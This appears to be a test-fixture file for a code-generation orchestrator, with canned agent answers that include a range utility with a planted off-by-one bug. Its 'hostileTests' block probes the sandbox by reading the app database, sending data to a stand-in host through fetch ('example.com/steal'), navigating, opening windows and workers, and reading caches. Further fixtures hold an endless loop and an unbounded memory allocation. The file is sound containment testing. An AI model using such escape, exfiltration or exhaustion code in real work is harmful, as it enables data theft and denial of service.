/**
 * A small JavaScript project with a real test suite, for the run-and-check tests: the
 * Code Generator's first answer has an off-by-one that one of twelve tests catches, its
 * fix answer corrects it; and a Test Writer answer full of hostile test code.
 */

export const checkedPlan = {
  summary: 'A tiny range utility with twelve tests and a review.',
  complexity: 'small',
  estimate: { tokens: 12_000, costUsd: 0.02 },
  stack: ['Node.js'],
  languages: ['javascript'],
  tasks: [
    {
      id: 'code',
      role: 'code-generator',
      title: 'Range utility',
      instructions: 'Write src/range.js exporting range(start, end) (end exclusive) and sum(list).',
      dependsOn: [],
      expectedArtifacts: ['src/range.js', 'package.json'],
      acceptance: ['range(0, 3) is [0, 1, 2]'],
    },
    {
      id: 'tests',
      role: 'test-writer',
      title: 'Tests for the range utility',
      instructions: 'Write test/range.test.js with node:test.',
      dependsOn: ['code'],
      expectedArtifacts: ['test/range.test.js'],
      acceptance: ['Twelve tests'],
    },
    {
      id: 'review',
      role: 'debugger',
      title: 'Review the code and tests',
      instructions: 'Review everything.',
      dependsOn: ['code', 'tests'],
      expectedArtifacts: [],
      acceptance: [],
    },
  ],
};

export const rangeJs = (fixed: boolean) =>
  [
    '/** The integers from start up to, not including, end. */',
    'export function range(start, end) {',
    '  const out = [];',
    // The planted bug: `<=` includes the end.
    `  for (let i = start; i ${fixed ? '<' : '<='} end; i += 1) out.push(i);`,
    '  return out;',
    '}',
    '',
    'export function sum(list) {',
    '  return list.reduce((total, value) => total + value, 0);',
    '}',
    '',
  ].join('\n');

const packageJson = `${JSON.stringify({ name: 'ranges', type: 'module', scripts: { test: 'node --test' } }, null, 2)}\n`;

export const codeAnswer = (fixed: boolean) => ({
  files: [
    { path: 'src/range.js', language: 'javascript', content: rangeJs(fixed) },
    { path: 'package.json', language: 'json', content: packageJson },
  ],
  notes: fixed ? 'Fixed the end bound.' : 'Range utility.',
});

const rangeTests = [
  "import assert from 'node:assert/strict';",
  "import { test, describe } from 'node:test';",
  "import { range, sum } from '../src/range.js';",
  '',
  "describe('range', () => {",
  "  test('stops before the end', () => assert.deepEqual(range(0, 3), [0, 1, 2]));",
  "  test('is empty when start is past end', () => assert.deepEqual(range(3, 1), []));",
  "  test('starts at start', () => assert.equal(range(5, 9)[0], 5));",
  "  test('counts up by one', () => assert.equal(range(1, 4)[1], 2));",
  "  test('handles negatives', () => assert.equal(range(-2, 0)[0], -2));",
  "  test('returns an array', () => assert.ok(Array.isArray(range(0, 1))));",
  '});',
  '',
  "describe('sum', () => {",
  "  test('adds numbers', () => assert.equal(sum([1, 2, 3]), 6));",
  "  test('is zero for none', () => assert.equal(sum([]), 0));",
  "  test('handles negatives', () => assert.equal(sum([-1, 1]), 0));",
  "  test('handles one value', () => assert.equal(sum([7]), 7));",
  "  test('adds a range', () => assert.equal(sum(range(0, 4).slice(0, 4)), 6));",
  "  test('is a number', () => assert.equal(typeof sum([1]), 'number'));",
  '});',
  '',
].join('\n');

export const testsAnswer = {
  files: [{ path: 'test/range.test.js', language: 'javascript', content: rangeTests }],
  notes: 'Twelve tests.',
};

/**
 * Test code that tries every way out of the sandbox. Each test passes only if its attempt
 * is refused, so "6 of 6 tests pass" means all six were contained (the e2e test also checks
 * from outside: the app's keys, its window, and the network).
 */
const hostileTests = [
  "import assert from 'node:assert/strict';",
  "import { test } from 'node:test';",
  '',
  "test('cannot read the app database', async () => {",
  '  await assert.rejects(async () => {',
  "    const opened = indexedDB.open('orchestra');",
  '    await new Promise((resolve, reject) => { opened.onsuccess = resolve; opened.onerror = () => reject(opened.error); });',
  '  });',
  '});',
  "test('cannot call another origin', async () => {",
  "  await assert.rejects(() => fetch('https://example.com/steal?k=1'));",
  '});',
  "test('cannot navigate the app', () => {",
  "  assert.throws(() => { top.location = 'https://example.com/'; });",
  '});',
  "test('cannot open a window', () => {",
  "  assert.throws(() => window.open('https://example.com/'));",
  '});',
  "test('cannot start a worker', () => {",
  "  assert.throws(() => new Worker('data:text/javascript,1'));",
  '});',
  "test('cannot read the caches', async () => {",
  '  await assert.rejects(async () => caches.keys());',
  '});',
  '',
].join('\n');

export const hostileAnswer = {
  files: [{ path: 'test/escape.test.js', language: 'javascript', content: hostileTests }],
  notes: 'Hostile tests.',
};

export const endlessAnswer = {
  files: [
    {
      path: 'test/endless.test.js',
      language: 'javascript',
      content: "import { test } from 'node:test';\n\ntest('never ends', () => {\n  while (true) {}\n});\n",
    },
  ],
  notes: 'An endless test.',
};

/**
 * A test that allocates without bound and swallows the refusal: the run still ends as out
 * of memory (the sandbox counts what was refused, not what the test reports), with the
 * case before it passed.
 */
export const greedyAnswer = {
  files: [
    {
      path: 'test/greedy.test.js',
      language: 'javascript',
      content: [
        "import assert from 'node:assert/strict';",
        "import { test } from 'node:test';",
        '',
        "test('adds', () => {",
        '  assert.equal(1 + 1, 2);',
        '});',
        "test('allocates without bound', () => {",
        '  const kept = [];',
        '  try {',
        '    for (;;) kept.push(Buffer.alloc(32 * 1024 * 1024));',
        '  } catch {',
        '    kept.length = 0;',
        '  }',
        '});',
        '',
      ].join('\n'),
    },
  ],
  notes: 'A greedy test.',
};
